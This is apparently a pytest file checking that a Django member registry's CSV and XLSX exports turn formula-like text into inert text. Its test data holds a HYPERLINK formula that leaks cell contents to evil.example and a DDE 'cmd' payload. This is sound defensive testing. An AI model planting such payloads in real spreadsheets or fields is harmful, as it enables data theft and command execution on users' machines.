"""Text that members type reaches the staff's spreadsheets as text, never as a live formula:
the member list's CSV and XLSX exports (and the reports' downloads, through the same rule)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from members import imports

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&H3,"x")'
CONTACT_NAME = 6  # the column of the contact name in an export (the import's order)
EMPLOYEES = 5
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula


def with_contact_name(cast, name: str) -> None:
    cast.member.contact_name = name
    cast.member.save(update_fields=["contact_name"])


def csv_export(client, user) -> bytes:
    client.force_login(user)
    return b"".join(client.get(reverse("member-export-csv")).streaming_content)


def exported_csv(client, user) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_export(client, user).decode("utf-8-sig"))))


def exported_xlsx(client, user):
    client.force_login(user)
    response = client.get(reverse("member-export-xlsx"))
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]


def member_row(rows, cast) -> list:
    return next(row for row in rows if row[0] == cast.member.uscc)


def test_a_formula_typed_as_a_contact_name_is_a_text_cell_in_the_xlsx_export(cast, client):
    with_contact_name(cast, LEAK)

    sheet = exported_xlsx(client, cast.staff)

    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == cast.member.uscc)
    assert row[CONTACT_NAME].value == LEAK
    assert row[CONTACT_NAME].data_type == "s"  # not "f": the spreadsheet shows it, runs nothing
    assert row[EMPLOYEES].data_type == "n"  # a number stays a number


@pytest.mark.parametrize("typed", [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"])
def test_text_that_starts_a_formula_is_marked_as_text_in_the_csv_export(cast, client, typed):
    with_contact_name(cast, typed)

    row = member_row(exported_csv(client, cast.staff), cast)

    assert row[CONTACT_NAME] == "'" + typed
    assert not row[CONTACT_NAME].startswith(FORMULA_START)
    assert row[EMPLOYEES] == str(cast.member.employees)


def test_text_an_error_name_or_a_control_character_does_not_break_the_xlsx_export(cast, client):
    with_contact_name(cast, "#N/A")
    cast.member.address = "广州\x01天河"
    cast.member.save(update_fields=["address"])

    sheet = exported_xlsx(client, cast.staff)

    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == cast.member.uscc)
    assert (row[CONTACT_NAME].value, row[CONTACT_NAME].data_type) == ("#N/A", "s")
    assert "广州天河" in [cell.value for cell in row]


def test_an_exported_csv_imports_the_names_as_they_were_typed(cast, client):
    with_contact_name(cast, LEAK)
    content = csv_export(client, cast.staff)

    with translation.override("zh-hans"):
        rows = imports.check_file("members.csv", content)

    assert next(row for row in rows if row.uscc == cast.member.uscc).contact_name == LEAK
